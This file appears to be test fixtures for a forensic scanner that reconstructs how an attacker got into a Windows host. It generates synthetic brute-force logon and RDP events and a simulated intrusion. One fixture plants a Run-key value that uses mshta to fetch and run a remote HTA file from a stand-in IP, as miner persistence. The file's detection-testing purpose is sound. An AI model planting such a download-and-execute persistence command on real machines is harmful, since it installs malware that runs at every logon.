/** Event logs of Windows hosts for tests, and what a scan of such a host tells of the way in. */
import { given } from '../../src/formats/evtx/binxml.fixture.ts';
import { type GivenEvent, logOf } from '../../src/formats/evtx/evtx.fixture.ts';
import { emptyConfig } from '../../src/model/config.ts';
import type { LogEvent } from '../../src/model/facts/event.ts';
import type { ScanResult } from '../../src/model/result.ts';
import { scan } from '../../src/scan/scan.ts';
import { folderTarget } from '../../src/target/folder.ts';
import { type HostSpec, plantWindows, ticks } from './windows-host.fixture.ts';

export const at = (iso: string, seconds = 0): number => Date.parse(iso) * 1000 + seconds * 1e6;
export const auditing = 'Microsoft-Windows-Security-Auditing';
const run = 'Microsoft\\Windows\\CurrentVersion\\Run';

export const logon = (
  eventId: 4624 | 4625,
  us: number,
  account: string,
  from: string,
  type: number,
  session?: number,
): GivenEvent => ({
  provider: auditing,
  channel: 'Security',
  computer: 'WEB-07',
  eventId,
  us,
  data: {
    TargetUserName: account,
    TargetDomainName: 'WEB-07',
    LogonType: given.u32(type),
    WorkstationName: 'KALI',
    IpAddress: from,
    IpPort: '0',
    SubStatus: given.hex32(eventId === 4625 ? 0xc000006a : 0),
    ...(session === undefined ? {} : { TargetLogonId: given.hex64(BigInt(session)) }),
  },
});

export const guesses = (
  from: string,
  start: string,
  count: number,
  accounts: readonly string[] = ['administrator'],
): readonly GivenEvent[] =>
  Array.from({ length: count }, (_, index) =>
    logon(4625, at(start, index * 3), accounts[index % accounts.length] ?? '', from, 3),
  );

/** A host that is used: its administrator comes from his own network each day. */
export const usual: readonly GivenEvent[] = Array.from({ length: 10 }, (_, day) =>
  logon(4624, at('2026-02-18T01:00:00Z', day * 86_400), 'Administrator', '10.0.0.50', 10),
);

/** 1149: a connection is asked who it is. */
export const reached = (time: string, from: string): GivenEvent => ({
  provider: 'Microsoft-Windows-TerminalServices-RemoteConnectionManager',
  channel: 'x',
  computer: 'WEB-07',
  eventId: 1149,
  us: at(time),
  userData: 'EventXML',
  data: { Param1: 'Administrator', Param2: '', Param3: from },
});

export interface Told {
  readonly result: ScanResult;
  readonly events: readonly LogEvent[];
}

export async function look(
  spec: HostSpec,
  logs: Readonly<Record<string, readonly GivenEvent[]>>,
): Promise<Told> {
  const files = Object.fromEntries(
    Object.entries(logs).map(([name, events]) => [
      `Windows/System32/winevt/Logs/${name}.evtx`,
      logOf(events),
    ]),
  );
  return lookAt(spec, files);
}

/** The same with files as they are, logs among them. */
export async function lookAt(spec: HostSpec, files: NonNullable<HostSpec['files']>): Promise<Told> {
  const planted = plantWindows({ ...spec, files: { ...spec.files, ...files } });
  const target = folderTarget(planted.path);
  const events: LogEvent[] = [];
  try {
    const taker = {
      begin: () => undefined,
      event: (event: LogEvent) => void events.push(event),
      end: () => undefined,
    };
    const asked = {
      interval: 0,
      active: false,
      thorough: false,
      keepSecrets: false,
      seen: [],
      language: 'en',
      config: emptyConfig,
    } as const;
    const { result } = await scan(target, undefined, { ...asked, logs: { taker, mostBytes: 2 ** 36 } }, '0');
    return { result, events };
  } finally {
    await target.close();
    planted.remove();
  }
}

/** A miner in a Run key, set minutes after the attacker came. */
export const mined = (written: string): HostSpec => ({
  software: { [run]: { values: { Update: 'mshta http://192.0.2.7/x.hta' }, written: ticks(written) } },
});

export const ways = ({ result }: Told): readonly string[] =>
  (result.entry ?? []).map(
    ({ vector, grade, account, attackers }) => `${grade} ${vector} ${account} ${attackers.join(',')}`,
  );
